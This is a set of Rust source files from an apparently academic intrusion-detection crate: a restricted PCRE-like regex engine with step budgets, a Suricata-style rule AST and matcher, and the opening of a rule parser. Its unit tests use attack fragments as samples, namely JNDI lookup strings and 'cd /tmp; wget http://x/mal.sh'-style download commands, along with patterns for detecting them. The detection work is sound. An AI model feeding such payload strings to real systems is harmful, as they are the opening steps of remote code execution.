                other => return Err(PcreError::UnknownFlag(other)),
            }
        }

        let bytes = pattern.as_bytes();
        let anchor_start = bytes.first() == Some(&b'^');
        let mut atoms: Vec<(Atom, Repeat)> = Vec::new();
        let mut anchor_end = false;
        let mut i = usize::from(anchor_start);
        while i < bytes.len() {
            match bytes[i] {
                b'$' if i + 1 == bytes.len() => {
                    anchor_end = true;
                    i += 1;
                }
                b'\\' => {
                    let next = *bytes.get(i + 1).ok_or(PcreError::TrailingEscape)?;
                    atoms.push((Atom::Literal(unescape(next)), Repeat::One));
                    i += 2;
                }
                b'.' => {
                    atoms.push((Atom::Any, Repeat::One));
                    i += 1;
                }
                b'[' => {
                    let (set, after) = parse_class(bytes, i + 1, nocase)?;
                    atoms.push((Atom::Class(set), Repeat::One));
                    i = after;
                }
                q @ (b'*' | b'+' | b'?') => {
                    let last = atoms.last_mut().ok_or(PcreError::DanglingQuantifier)?;
                    if last.1 != Repeat::One {
                        return Err(PcreError::DanglingQuantifier);
                    }
                    last.1 = match q {
                        b'*' => Repeat::ZeroOrMore,
                        b'+' => Repeat::OneOrMore,
                        _ => Repeat::ZeroOrOne,
                    };
                    i += 1;
                }
                lit => {
                    atoms.push((Atom::Literal(lit), Repeat::One));
                    i += 1;
                }
            }
        }
        Ok(PcreLite {
            atoms,
            nocase,
            anchor_start,
            anchor_end,
            source: framed.to_string(),
        })
    }

    /// The original `/pattern/flags` text.
    pub fn source(&self) -> &str {
        &self.source
    }

    /// Unanchored match: does the pattern occur anywhere in `haystack`?
    ///
    /// Runs under [`DEFAULT_STEP_BUDGET`]; budget exhaustion counts as
    /// no-match. Use [`PcreLite::is_match_bounded`] to distinguish.
    pub fn is_match(&self, haystack: &[u8]) -> bool {
        self.is_match_bounded(haystack, DEFAULT_STEP_BUDGET)
            .unwrap_or(false)
    }

    /// Like [`PcreLite::is_match`], but with an explicit step budget.
    ///
    /// Every byte comparison costs one step. Returns `None` if the budget
    /// is exhausted before the search resolves either way.
    pub fn is_match_bounded(&self, haystack: &[u8], budget: usize) -> Option<bool> {
        let mut steps = budget;
        let last_start = if self.anchor_start { 0 } else { haystack.len() };
        for start in 0..=last_start {
            match self.match_at(haystack, start, 0, &mut steps) {
                Some(true) => return Some(true),
                Some(false) => {}
                None => return None,
            }
        }
        Some(false)
    }

    fn byte_matches(&self, atom: Atom, b: u8) -> bool {
        match atom {
            Atom::Any => true,
            Atom::Literal(l) => {
                if self.nocase {
                    l.eq_ignore_ascii_case(&b)
                } else {
                    l == b
                }
            }
            // Case folding was baked into the bitmap at compile time
            // (before negation, matching PCRE's caseless semantics).
            Atom::Class(set) => class_contains(&set, b),
        }
    }

    /// `Some(matched)` on resolution, `None` on budget exhaustion.
    fn match_at(&self, hay: &[u8], mut pos: usize, atom_idx: usize, steps: &mut usize) -> Option<bool> {
        let mut idx = atom_idx;
        while idx < self.atoms.len() {
            let (atom, rep) = self.atoms[idx];
            match rep {
                Repeat::One => {
                    *steps = steps.checked_sub(1)?;
                    if pos < hay.len() && self.byte_matches(atom, hay[pos]) {
                        pos += 1;
                        idx += 1;
                    } else {
                        return Some(false);
                    }
                }
                Repeat::ZeroOrOne => {
                    *steps = steps.checked_sub(1)?;
                    if pos < hay.len() && self.byte_matches(atom, hay[pos]) {
                        match self.match_at(hay, pos + 1, idx + 1, steps) {
                            Some(true) => return Some(true),
                            Some(false) => {}
                            None => return None,
                        }
                    }
                    idx += 1;
                }
                Repeat::ZeroOrMore | Repeat::OneOrMore => {
                    let min = if rep == Repeat::OneOrMore { 1 } else { 0 };
                    // Greedy with backtracking: count the maximal run, then
                    // retreat until the tail matches.
                    let mut run = 0;
                    while pos + run < hay.len() && self.byte_matches(atom, hay[pos + run]) {
                        *steps = steps.checked_sub(1)?;
                        run += 1;
                    }
                    while run + 1 > min {
                        match self.match_at(hay, pos + run, idx + 1, steps) {
                            Some(true) => return Some(true),
                            Some(false) => {}
                            None => return None,
                        }
                        if run == min {
                            return Some(false);
                        }
                        run -= 1;
                    }
                    return Some(false);
                }
            }
        }
        Some(!self.anchor_end || pos == hay.len())
    }
}

/// Step budget for [`PcreLite::is_match`]: generous enough for any vetted
/// pattern on real capture payloads, small enough to bound a hostile input.
pub const DEFAULT_STEP_BUDGET: usize = 1 << 22;

fn unescape(c: u8) -> u8 {
    match c {
        b'n' => b'\n',
        b'r' => b'\r',
        b't' => b'\t',
        other => other,
    }
}

fn class_contains(set: &[u64; 4], b: u8) -> bool {
    set[usize::from(b >> 6)] & (1u64 << (b & 63)) != 0
}

/// Insert `b` — and, caseless, its other ASCII case — into the bitmap.
/// Runs before negation so `[^a-z]` under `/i` excludes `A-Z` too.
fn class_insert(set: &mut [u64; 4], b: u8, nocase: bool) {
    set[usize::from(b >> 6)] |= 1u64 << (b & 63);
    if nocase {
        let swapped = if b.is_ascii_lowercase() {
            b.to_ascii_uppercase()
        } else {
            b.to_ascii_lowercase()
        };
        set[usize::from(swapped >> 6)] |= 1u64 << (swapped & 63);
    }
}

/// Parse a character class body starting just past `[`; returns the bitmap
/// and the index just past the closing `]`.
fn parse_class(bytes: &[u8], mut i: usize, nocase: bool) -> Result<([u64; 4], usize), PcreError> {
    let negated = bytes.get(i) == Some(&b'^');
    if negated {
        i += 1;
    }
    let mut set = [0u64; 4];
    let mut first = true;
    loop {
        let b = *bytes.get(i).ok_or(PcreError::UnclosedClass)?;
        if b == b']' && !first {
            i += 1;
            break;
        }
        first = false;
        let lo = if b == b'\\' {
            i += 1;
            unescape(*bytes.get(i).ok_or(PcreError::UnclosedClass)?)
        } else {
            b
        };
        // A `-` is a range only when flanked: `a-z`, not `[-a]` or `[a-]`.
        if bytes.get(i + 1) == Some(&b'-') && bytes.get(i + 2).is_some_and(|&c| c != b']') {
            i += 2;
            let c = bytes[i];
            let hi = if c == b'\\' {
                i += 1;
                unescape(*bytes.get(i).ok_or(PcreError::UnclosedClass)?)
            } else {
                c
            };
            if hi < lo {
                return Err(PcreError::BadClassRange);
            }
            for v in lo..=hi {
                class_insert(&mut set, v, nocase);
            }
        } else {
            class_insert(&mut set, lo, nocase);
        }
        i += 1;
    }
    if negated {
        for w in &mut set {
            *w = !*w;
        }
    }
    Ok((set, i))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn m(pat: &str, hay: &[u8]) -> bool {
        PcreLite::compile(pat).unwrap().is_match(hay)
    }

    #[test]
    fn literal_substring() {
        assert!(m("/jndi/", b"${jndi:ldap://x}"));
        assert!(!m("/jndi/", b"plain text"));
    }

    #[test]
    fn case_flag() {
        assert!(m("/jndi/i", b"${JnDi:ldap}"));
        assert!(!m("/jndi/", b"${JNDI:ldap}"));
    }

    #[test]
    fn dot_and_star() {
        assert!(m("/cd .tmp/", b"; cd /tmp; wget x"));
        assert!(m("/wget.*http/", b"wget -q http://evil"));
        assert!(!m("/wget.*http/", b"http then wget"));
    }

    #[test]
    fn plus_and_question() {
        assert!(m("/a+b/", b"xxaaab"));
        assert!(!m("/a+b/", b"xxb"));
        assert!(m("/https?:/", b"http://x"));
        assert!(m("/https?:/", b"https://x"));
    }

    #[test]
    fn escapes() {
        assert!(m("/a\\.b/", b"a.b"));
        assert!(!m("/a\\.b/", b"axb"));
        assert!(m("/end\\r\\n/", b"end\r\n"));
        assert!(m("/c\\*d/", b"c*d"));
    }

    #[test]
    fn empty_pattern_matches_everything() {
        assert!(m("//", b""));
        assert!(m("//", b"anything"));
    }

    #[test]
    fn compile_errors() {
        assert_eq!(PcreLite::compile("nope"), Err(PcreError::BadFraming));
        assert_eq!(PcreLite::compile("/a/x"), Err(PcreError::UnknownFlag('x')));
        assert_eq!(
            PcreLite::compile("/*a/"),
            Err(PcreError::DanglingQuantifier)
        );
        assert_eq!(
            PcreLite::compile("/a**/"),
            Err(PcreError::DanglingQuantifier)
        );
        assert_eq!(PcreLite::compile("/a\\/"), Err(PcreError::TrailingEscape));
    }

    #[test]
    fn backtracking_star_before_literal() {
        // `.*` must backtrack to let the tail match.
        assert!(m("/GET .* HTTP/", b"GET /a/b/c HTTP/1.1"));
        assert!(m("/a.*a/", b"abca"));
        assert!(!m("/a.*a/", b"abc"));
    }

    #[test]
    fn character_classes() {
        assert!(m("/[abc]/", b"xxbyy"));
        assert!(!m("/[abc]/", b"xyz"));
        assert!(m("/[0-9]+/", b"port 2323 open"));
        assert!(!m("/[0-9]/", b"no digits"));
        assert!(m("/[a-f0-9][a-f0-9]/", b"hash: d4"));
        // `]` as first member, `-` as literal at the edges.
        assert!(m("/[]x]/", b"]"));
        assert!(m("/[-a]/", b"-"));
        assert!(m("/[a-]/", b"-"));
        // Escapes inside classes.
        assert!(m("/[\\t\\n]/", b"a\tb"));
        assert!(m("/[\\]]/", b"]"));
    }

    #[test]
    fn negated_classes() {
        assert!(m("/[^0-9]/", b"abc"));
        assert!(!m("/[^0-9]/", b"0123"));
        assert!(m("/a[^/]*b/", b"a_x_b"));
        assert!(!m("/a[^x]b/", b"axb"));
    }

    #[test]
    fn class_case_flag() {
        assert!(m("/[a-z]+/i", b"WGET"));
        assert!(!m("/[a-z]/", b"WGET"));
        // Negated class under /i: a byte matches only if neither case
        // variant is in the (pre-negated) set.
        assert!(!m("/[^a-z]/i", b"A"));
        assert!(m("/[^a-z]/i", b"9"));
    }

    #[test]
    fn class_compile_errors() {
        assert_eq!(PcreLite::compile("/[abc/"), Err(PcreError::UnclosedClass));
        assert_eq!(PcreLite::compile("/[z-a]/"), Err(PcreError::BadClassRange));
        assert_eq!(PcreLite::compile("/[a\\/"), Err(PcreError::UnclosedClass));
    }

    #[test]
    fn anchors_at_pattern_edges() {
        assert!(m("/^GET /", b"GET / HTTP/1.1"));
        assert!(!m("/^GET /", b"HEAD then GET /"));
        assert!(m("/login:$/", b"user login:"));
        assert!(!m("/login:$/", b"login: admin"));
        assert!(m("/^full$/", b"full"));
        assert!(!m("/^full$/", b"fuller"));
        assert!(m("/^$/", b""));
        assert!(!m("/^$/", b"x"));
        // Anywhere else they are literal bytes.
        assert!(m("/a^b/", b"a^b"));
        assert!(m("/a$b/", b"a$b"));
        assert!(m("/\\^x/", b"^x"));
    }

    #[test]
    fn anchored_star_still_backtracks() {
        assert!(m("/^a.*c$/", b"abbbc"));
        assert!(!m("/^a.*c$/", b"abbbcx"));
        assert!(m("/^.*$/", b"anything"));
    }

    #[test]
    fn pathological_backtracking_hits_the_step_budget() {
        // `(a*)^k a` style blowup: k stacked `a*` atoms followed by a byte
        // that never appears forces the engine to enumerate every split of
        // the run of `a`s — polynomial of degree k, astronomically many
        // combinations for k = 12 over 64 bytes.
        let p = PcreLite::compile("/a*a*a*a*a*a*a*a*a*a*a*a*b/").unwrap();
        let hay = vec![b'a'; 64];
        // A tight budget must report exhaustion, not hang or mis-answer.
        assert_eq!(p.is_match_bounded(&hay, 10_000), None);
        // The default-budget entry point degrades it to no-match.
        assert!(!p.is_match(&hay));
        // The same pattern still resolves quickly when the tail exists.
        let mut ok = hay.clone();
        ok.push(b'b');
        assert_eq!(p.is_match_bounded(&ok, 10_000), Some(true));
    }

    #[test]
    fn budget_counts_work_not_outcomes() {
        let p = PcreLite::compile("/abc/").unwrap();
        // Three comparisons needed; a budget of 2 exhausts mid-match.
        assert_eq!(p.is_match_bounded(b"abc", 2), None);
        assert_eq!(p.is_match_bounded(b"abc", 3), Some(true));
    }
}
