//! A restricted regex engine for rule `pcre:` options.
//!
//! Supported syntax (enough for the vetted ruleset, nothing more):
//! literal bytes, `.` (any byte), `*` (zero-or-more of previous atom),
//! `+` (one-or-more), `?` (optional), `\` escapes, and the `i` flag
//! (case-insensitive). Matching is unanchored substring search, like PCRE
//! without `^`. Backtracking depth is linear in pattern length — patterns
//! are trusted (they ship with the crate), inputs are not.

/// A compiled restricted-PCRE pattern.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PcreLite {
    atoms: Vec<(Atom, Repeat)>,
    nocase: bool,
    source: String,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Atom {
    Literal(u8),
    Any,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Repeat {
    One,
    ZeroOrMore,
    OneOrMore,
    ZeroOrOne,
}

/// Errors from pattern compilation.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum PcreError {
    /// `/pattern/flags` framing missing.
    BadFraming,
    /// Unknown flag character.
    UnknownFlag(char),
    /// Quantifier with nothing to repeat.
    DanglingQuantifier,
    /// Trailing backslash.
    TrailingEscape,
}

impl std::fmt::Display for PcreError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            PcreError::BadFraming => write!(f, "pattern must be framed as /pattern/flags"),
            PcreError::UnknownFlag(c) => write!(f, "unknown flag '{c}'"),
            PcreError::DanglingQuantifier => write!(f, "quantifier with nothing to repeat"),
            PcreError::TrailingEscape => write!(f, "trailing backslash"),
        }
    }
}

impl std::error::Error for PcreError {}

impl PcreLite {
    /// Compile a `/pattern/flags` string.
    pub fn compile(framed: &str) -> Result<PcreLite, PcreError> {
        let inner = framed.strip_prefix('/').ok_or(PcreError::BadFraming)?;
        let slash = inner.rfind('/').ok_or(PcreError::BadFraming)?;
        let (pattern, flags) = inner.split_at(slash);
        let flags = &flags[1..];
        let mut nocase = false;
        for c in flags.chars() {
            match c {
                'i' => nocase = true,
                's' => {} // `.` already matches everything, incl. newline
                other => return Err(PcreError::UnknownFlag(other)),
            }
        }

        let bytes = pattern.as_bytes();
        let mut atoms: Vec<(Atom, Repeat)> = Vec::new();
        let mut i = 0;
        while i < bytes.len() {
            match bytes[i] {
                b'\\' => {
                    let next = *bytes.get(i + 1).ok_or(PcreError::TrailingEscape)?;
                    let lit = match next {
                        b'n' => b'\n',
                        b'r' => b'\r',
                        b't' => b'\t',
                        other => other,
                    };
                    atoms.push((Atom::Literal(lit), Repeat::One));
                    i += 2;
                }
                b'.' => {
                    atoms.push((Atom::Any, Repeat::One));
                    i += 1;
                }
                q @ (b'*' | b'+' | b'?') => {
                    let last = atoms.last_mut().ok_or(PcreError::DanglingQuantifier)?;
                    if last.1 != Repeat::One {
                        return Err(PcreError::DanglingQuantifier);
                    }
                    last.1 = match q {
                        b'*' => Repeat::ZeroOrMore,
                        b'+' => Repeat::OneOrMore,
                        _ => Repeat::ZeroOrOne,
                    };
                    i += 1;
                }
                lit => {
                    atoms.push((Atom::Literal(lit), Repeat::One));
                    i += 1;
                }
            }
        }
        Ok(PcreLite {
            atoms,
            nocase,
            source: framed.to_string(),
        })
    }

    /// The original `/pattern/flags` text.
    pub fn source(&self) -> &str {
        &self.source
    }

    /// Unanchored match: does the pattern occur anywhere in `haystack`?
    pub fn is_match(&self, haystack: &[u8]) -> bool {
        if self.atoms.is_empty() {
            return true;
        }
        (0..=haystack.len()).any(|start| self.match_at(haystack, start, 0))
    }

    fn byte_matches(&self, atom: Atom, b: u8) -> bool {
        match atom {
            Atom::Any => true,
            Atom::Literal(l) => {
                if self.nocase {
                    l.eq_ignore_ascii_case(&b)
                } else {
                    l == b
                }
            }
        }
    }

    fn match_at(&self, hay: &[u8], mut pos: usize, atom_idx: usize) -> bool {
        let mut idx = atom_idx;
        while idx < self.atoms.len() {
            let (atom, rep) = self.atoms[idx];
            match rep {
                Repeat::One => {
                    if pos < hay.len() && self.byte_matches(atom, hay[pos]) {
                        pos += 1;
                        idx += 1;
                    } else {
                        return false;
                    }
                }
                Repeat::ZeroOrOne => {
                    if pos < hay.len()
                        && self.byte_matches(atom, hay[pos])
                        && self.match_at(hay, pos + 1, idx + 1)
                    {
                        return true;
                    }
                    idx += 1;
                }
                Repeat::ZeroOrMore | Repeat::OneOrMore => {
                    let min = if rep == Repeat::OneOrMore { 1 } else { 0 };
                    // Greedy with backtracking: count the maximal run, then
                    // retreat until the tail matches.
                    let mut run = 0;
                    while pos + run < hay.len() && self.byte_matches(atom, hay[pos + run]) {
                        run += 1;
                    }
                    while run + 1 > min {
                        if self.match_at(hay, pos + run, idx + 1) {
                            return true;
                        }
                        if run == min {
                            return false;
                        }
                        run -= 1;
                    }
                    return false;
                }
            }
        }
        true
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn m(pat: &str, hay: &[u8]) -> bool {
        PcreLite::compile(pat).unwrap().is_match(hay)
    }

    #[test]
    fn literal_substring() {
        assert!(m("/jndi/", b"${jndi:ldap://x}"));
        assert!(!m("/jndi/", b"plain text"));
    }

    #[test]
    fn case_flag() {
        assert!(m("/jndi/i", b"${JnDi:ldap}"));
        assert!(!m("/jndi/", b"${JNDI:ldap}"));
    }

    #[test]
    fn dot_and_star() {
        assert!(m("/cd .tmp/", b"; cd /tmp; wget x"));
        assert!(m("/wget.*http/", b"wget -q http://evil"));
        assert!(!m("/wget.*http/", b"http then wget"));
    }

    #[test]
    fn plus_and_question() {
        assert!(m("/a+b/", b"xxaaab"));
        assert!(!m("/a+b/", b"xxb"));
        assert!(m("/https?:/", b"http://x"));
        assert!(m("/https?:/", b"https://x"));
    }

    #[test]
    fn escapes() {
        assert!(m("/a\\.b/", b"a.b"));
        assert!(!m("/a\\.b/", b"axb"));
        assert!(m("/end\\r\\n/", b"end\r\n"));
        assert!(m("/c\\*d/", b"c*d"));
    }

    #[test]
    fn empty_pattern_matches_everything() {
        assert!(m("//", b""));
        assert!(m("//", b"anything"));
    }

    #[test]
    fn compile_errors() {
        assert_eq!(PcreLite::compile("nope"), Err(PcreError::BadFraming));
        assert_eq!(PcreLite::compile("/a/x"), Err(PcreError::UnknownFlag('x')));
        assert_eq!(
            PcreLite::compile("/*a/"),
            Err(PcreError::DanglingQuantifier)
        );
        assert_eq!(
            PcreLite::compile("/a**/"),
            Err(PcreError::DanglingQuantifier)
        );
        assert_eq!(PcreLite::compile("/a\\/"), Err(PcreError::TrailingEscape));
    }

    #[test]
    fn backtracking_star_before_literal() {
        // `.*` must backtrack to let the tail match.
        assert!(m("/GET .* HTTP/", b"GET /a/b/c HTTP/1.1"));
        assert!(m("/a.*a/", b"abca"));
        assert!(!m("/a.*a/", b"abc"));
    }
}
