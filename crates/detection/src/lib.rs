//! # cw-detection
//!
//! The intrusion-detection layer of the reproduction.
//!
//! The paper classifies traffic as malicious when it "(1) attempts to login
//! or bypass authentication, or (2) alters the state of the service" (§3.2).
//! For non-authentication protocols it runs payloads through Suricata with a
//! manually vetted rule subset. This crate rebuilds that stack:
//!
//! - [`rule`] — a Suricata-like rule AST with `content` /
//!   `nocase` / `offset` / `depth` / `distance` / `within` / `pcre` options
//!   and classtypes;
//! - [`parse`] — a parser for the textual rule language;
//! - [`pcre`] — the restricted regex engine backing `pcre:` options;
//! - [`ruleset`] — the built-in vetted rules covering the exploit corpus the
//!   simulated attackers send (the stand-in for the Pastebin rule dump the
//!   paper references);
//! - [`classify`] — the §3.2 maliciousness decision procedure;
//! - [`reputation`] — a GreyNoise-API-like actor label store
//!   (benign / malicious / unknown) used by Table 11.

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod classify;
pub mod parse;
pub mod pcre;
pub mod reputation;
pub mod rule;
pub mod ruleset;

pub use classify::{classify_intent, is_malicious_payload, Verdict};
pub use parse::parse_rule;
pub use reputation::{ActorLabel, ReputationDb};
pub use rule::{ClassType, ContentMatch, Rule, RuleProtocol};
pub use ruleset::RuleSet;
