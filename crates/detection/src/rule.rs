//! Rule AST and byte-level matching semantics.
//!
//! The option subset mirrors what the paper's vetted Suricata rules use:
//! sequenced `content` matches with `nocase`, absolute anchors
//! (`offset` / `depth`) and relative anchors (`distance` / `within`), an
//! optional `pcre`, destination port constraints, and a classtype.

use crate::pcre::PcreLite;

/// Transport/application protocol constraint of a rule.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum RuleProtocol {
    /// Any TCP payload.
    Tcp,
    /// Payloads that parse as HTTP (rule engine checks the request shape).
    Http,
}

/// Suricata classtypes used by the vetted subset (§3.2).
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum ClassType {
    /// Malware / botnet command traffic.
    TrojanActivity,
    /// Web application exploit.
    WebApplicationAttack,
    /// Protocol abuse that alters service state.
    ProtocolCommandDecode,
    /// Attempt to gain user-level access.
    AttemptedUser,
    /// Attempt to gain admin-level access.
    AttemptedAdmin,
    /// Reconnaissance.
    AttemptedRecon,
    /// Anomalous, probably bad.
    BadUnknown,
    /// Miscellaneous suspicious activity.
    MiscActivity,
}

impl ClassType {
    /// Parse the Suricata classtype token.
    pub fn from_token(s: &str) -> Option<ClassType> {
        Some(match s {
            "trojan-activity" => ClassType::TrojanActivity,
            "web-application-attack" => ClassType::WebApplicationAttack,
            "protocol-command-decode" => ClassType::ProtocolCommandDecode,
            "attempted-user" => ClassType::AttemptedUser,
            "attempted-admin" => ClassType::AttemptedAdmin,
            "attempted-recon" => ClassType::AttemptedRecon,
            "bad-unknown" => ClassType::BadUnknown,
            "misc-activity" => ClassType::MiscActivity,
            _ => return None,
        })
    }

    /// The Suricata token for this classtype.
    pub fn token(&self) -> &'static str {
        match self {
            ClassType::TrojanActivity => "trojan-activity",
            ClassType::WebApplicationAttack => "web-application-attack",
            ClassType::ProtocolCommandDecode => "protocol-command-decode",
            ClassType::AttemptedUser => "attempted-user",
            ClassType::AttemptedAdmin => "attempted-admin",
            ClassType::AttemptedRecon => "attempted-recon",
            ClassType::BadUnknown => "bad-unknown",
            ClassType::MiscActivity => "misc-activity",
        }
    }

    /// Does a hit of this classtype indicate authority bypass or state
    /// alteration (the paper's maliciousness bar)? Recon alone does not.
    pub fn is_malicious(&self) -> bool {
        !matches!(self, ClassType::AttemptedRecon)
    }
}

/// Destination-port constraint.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum PortSpec {
    /// Any port.
    Any,
    /// A listed set of ports.
    List(Vec<u16>),
}

impl PortSpec {
    /// Does the spec admit `port`?
    pub fn matches(&self, port: u16) -> bool {
        match self {
            PortSpec::Any => true,
            PortSpec::List(ports) => ports.contains(&port),
        }
    }
}

/// One `content` option with its modifiers.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ContentMatch {
    /// Bytes to find.
    pub pattern: Vec<u8>,
    /// Case-insensitive comparison.
    pub nocase: bool,
    /// Absolute: search starts at this offset.
    pub offset: Option<usize>,
    /// Absolute: match must start within the first `depth` bytes of the
    /// search region.
    pub depth: Option<usize>,
    /// Relative: search starts `distance` bytes after the previous match.
    pub distance: Option<usize>,
    /// Relative: match must start within `within` bytes of the search start.
    ///
    /// Note: real Suricata bounds the match *end* relative to the previous
    /// match's end; this engine bounds the match *start* relative to the
    /// search start. The built-in ruleset is authored (and test-pinned)
    /// against these semantics — port external rules with care.
    pub within: Option<usize>,
}

impl ContentMatch {
    /// A plain content match with no modifiers.
    pub fn plain(pattern: &[u8]) -> Self {
        ContentMatch {
            pattern: pattern.to_vec(),
            nocase: false,
            offset: None,
            depth: None,
            distance: None,
            within: None,
        }
    }

    /// Search for this content in `payload` starting the scan at `cursor`
    /// (the byte after the previous content's match). Returns the position
    /// one past the end of the match.
    fn find_from(&self, payload: &[u8], cursor: usize) -> Option<usize> {
        // Determine the search window start.
        let start = if self.distance.is_some() || self.within.is_some() {
            cursor + self.distance.unwrap_or(0)
        } else {
            self.offset.unwrap_or(0)
        };
        if self.pattern.is_empty()
            || payload.len() < self.pattern.len()
            || start > payload.len() - self.pattern.len()
        {
            return None;
        }
        // Latest allowed match-start position.
        let mut limit = payload.len().saturating_sub(self.pattern.len());
        if let Some(d) = self.depth {
            // depth counts bytes from the search start.
            limit = limit.min((start + d).saturating_sub(self.pattern.len()));
        }
        if let Some(w) = self.within {
            limit = limit.min((start + w).saturating_sub(self.pattern.len()));
        }
        let eq = |a: &[u8], b: &[u8]| {
            if self.nocase {
                a.eq_ignore_ascii_case(b)
            } else {
                a == b
            }
        };
        (start..=limit)
            .find(|&i| eq(&payload[i..i + self.pattern.len()], &self.pattern))
            .map(|i| i + self.pattern.len())
    }
}

/// A compiled detection rule.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Rule {
    /// Protocol constraint.
    pub protocol: RuleProtocol,
    /// Destination ports.
    pub dst_ports: PortSpec,
    /// Human-readable message.
    pub msg: String,
    /// Rule id.
    pub sid: u32,
    /// Classtype.
    pub classtype: ClassType,
    /// Sequenced content matches.
    pub contents: Vec<ContentMatch>,
    /// Optional restricted-PCRE check (unanchored, over the whole payload).
    pub pcre: Option<PcreLite>,
}

impl Rule {
    /// Does this rule fire on `payload` arriving at `port`?
    pub fn matches(&self, payload: &[u8], port: u16) -> bool {
        if !self.dst_ports.matches(port) {
            return false;
        }
        if self.protocol == RuleProtocol::Http && !cw_protocols::http::looks_like_http(payload) {
            return false;
        }
        let mut cursor = 0usize;
        for c in &self.contents {
            match c.find_from(payload, cursor) {
                Some(end) => cursor = end,
                None => return false,
            }
        }
        if let Some(p) = &self.pcre {
            if !p.is_match(payload) {
                return false;
            }
        }
        true
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rule_with(contents: Vec<ContentMatch>) -> Rule {
        Rule {
            protocol: RuleProtocol::Tcp,
            dst_ports: PortSpec::Any,
            msg: "test".into(),
            sid: 1,
            classtype: ClassType::MiscActivity,
            contents,
            pcre: None,
        }
    }

    #[test]
    fn plain_content() {
        let r = rule_with(vec![ContentMatch::plain(b"jndi")]);
        assert!(r.matches(b"${jndi:ldap://}", 80));
        assert!(!r.matches(b"benign", 80));
    }

    #[test]
    fn nocase_content() {
        let mut c = ContentMatch::plain(b"jndi");
        c.nocase = true;
        let r = rule_with(vec![c]);
        assert!(r.matches(b"${JNDI:ldap://}", 80));
    }

    #[test]
    fn offset_and_depth_anchor_from_start() {
        let mut c = ContentMatch::plain(b"GET");
        c.offset = Some(0);
        c.depth = Some(3);
        let r = rule_with(vec![c]);
        assert!(r.matches(b"GET / HTTP/1.1", 80));
        assert!(!r.matches(b" GET / HTTP/1.1", 80)); // match would start at 1 > depth window
    }

    #[test]
    fn sequenced_contents_with_distance_within() {
        let c1 = ContentMatch::plain(b"POST");
        let mut c2 = ContentMatch::plain(b"cmd=");
        c2.distance = Some(0);
        c2.within = Some(40);
        let r = rule_with(vec![c1, c2]);
        assert!(r.matches(b"POST /x HTTP/1.1\r\n\r\ncmd=reboot", 80));
        // cmd= appears before POST → sequence fails.
        assert!(!r.matches(b"cmd=reboot POST", 80));
        // cmd= too far after POST for `within`.
        let far = [b"POST ".to_vec(), vec![b'a'; 60], b"cmd=".to_vec()].concat();
        assert!(!r.matches(&far, 80));
    }

    #[test]
    fn port_constraint() {
        let mut r = rule_with(vec![ContentMatch::plain(b"x")]);
        r.dst_ports = PortSpec::List(vec![80, 8080]);
        assert!(r.matches(b"x", 80));
        assert!(!r.matches(b"x", 443));
    }

    #[test]
    fn http_protocol_constraint() {
        let mut r = rule_with(vec![ContentMatch::plain(b"evil")]);
        r.protocol = RuleProtocol::Http;
        assert!(r.matches(b"GET /evil HTTP/1.1\r\n\r\n", 80));
        assert!(!r.matches(b"evil raw bytes", 80));
    }

    #[test]
    fn pcre_gate() {
        let mut r = rule_with(vec![ContentMatch::plain(b"wget")]);
        r.pcre = Some(PcreLite::compile("/wget.*\\.sh/").unwrap());
        assert!(r.matches(b"cd /tmp; wget http://x/mal.sh", 80));
        assert!(!r.matches(b"wget something else", 80));
    }

    #[test]
    fn classtype_tokens_round_trip() {
        for t in [
            "trojan-activity",
            "web-application-attack",
            "protocol-command-decode",
            "attempted-user",
            "attempted-admin",
            "attempted-recon",
            "bad-unknown",
            "misc-activity",
        ] {
            let c = ClassType::from_token(t).unwrap();
            assert_eq!(c.token(), t);
        }
        assert_eq!(ClassType::from_token("nonsense"), None);
    }

    #[test]
    fn recon_is_not_malicious() {
        assert!(!ClassType::AttemptedRecon.is_malicious());
        assert!(ClassType::AttemptedAdmin.is_malicious());
    }

    #[test]
    fn content_past_end_never_matches() {
        let mut c = ContentMatch::plain(b"abc");
        c.offset = Some(1000);
        let r = rule_with(vec![c]);
        assert!(!r.matches(b"abc", 80));
    }
}
