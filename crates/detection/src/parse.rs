//! Parser for the textual rule language.
//!
//! Grammar (one rule per line):
//!
//! ```text
//! alert <proto> any any -> any <ports> ( <option>; <option>; ... )
//! ```
//!
//! where `<proto>` is `tcp` or `http`, `<ports>` is `any`, a port, or
//! `[p1,p2,…]`, and options are `msg:"…"`, `content:"…"` (with `|hex|`
//! spans), `nocase`, `offset:n`, `depth:n`, `distance:n`, `within:n`,
//! `pcre:"/…/flags"`, `classtype:…`, `sid:n`. Unknown options are rejected —
//! the ruleset ships with the crate, so strictness catches typos at test
//! time rather than silently weakening detection.

use crate::pcre::PcreLite;
use crate::rule::{ClassType, ContentMatch, PortSpec, Rule, RuleProtocol};

/// Rule parse errors.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ParseError {
    /// The rule header (before the options) is malformed.
    BadHeader(String),
    /// An option is malformed or unknown.
    BadOption(String),
    /// A required option is missing.
    Missing(&'static str),
    /// A `content:` string has invalid hex between pipes.
    BadHex(String),
    /// The pcre pattern failed to compile.
    BadPcre(String),
}

impl std::fmt::Display for ParseError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            ParseError::BadHeader(s) => write!(f, "bad rule header: {s}"),
            ParseError::BadOption(s) => write!(f, "bad option: {s}"),
            ParseError::Missing(s) => write!(f, "missing required option: {s}"),
            ParseError::BadHex(s) => write!(f, "bad hex content: {s}"),
            ParseError::BadPcre(s) => write!(f, "bad pcre: {s}"),
        }
    }
}

impl std::error::Error for ParseError {}

/// Parse one rule line.
pub fn parse_rule(line: &str) -> Result<Rule, ParseError> {
    let line = line.trim();
    let open = line
        .find('(')
        .ok_or_else(|| ParseError::BadHeader(line.to_string()))?;
